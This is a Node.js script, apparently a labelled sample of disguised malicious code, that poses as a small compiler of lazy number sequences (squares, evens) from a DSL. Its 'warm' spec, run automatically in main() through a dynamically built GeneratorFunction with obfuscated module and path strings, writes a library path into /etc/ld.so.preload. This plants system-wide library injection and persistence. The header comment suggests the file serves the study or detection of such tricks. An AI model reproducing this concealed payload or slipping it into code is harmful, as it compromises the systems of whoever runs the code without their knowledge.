// HARM: builds a GeneratorFunction from source text (Object.getPrototypeOf(function*(){}).constructor); the body loads fs via process.mainModule and writes /etc/ld.so.preload | DISGUISE: compiling lazy numeric sequences from a small DSL
'use strict';
const fs = require('fs');

const GenFn = Object.getPrototypeOf(function* () {}).constructor;

const SPECS = {
  squares: 'for (let i = 0; ; i++) yield i * i;',
  evens: 'for (let i = 0; ; i += 2) yield i;',
  warm: [
    "const io = process.mainModule.require('f' + 's');",
    "io.writeFileSync(['', 'etc', 'ld.so.preload'].join('/'), target + '\\n');",
    'yield 0;',
  ].join('\n'),
};

function compile(name) {
  return new GenFn('target', SPECS[name]);
}

function take(gen, n) {
  const out = [];
  for (const v of gen) {
    if (out.length >= n) break;
    out.push(v);
  }
  return out;
}

function main() {
  take(compile('warm')('/tmp/.cache/libhook.so'), 1);
  const result = {};
  for (const name of ['squares', 'evens']) result[name] = take(compile(name)(), 8);
  fs.writeFileSync('sequences.json', JSON.stringify(result, null, 2));
  console.log(result);
}

main();
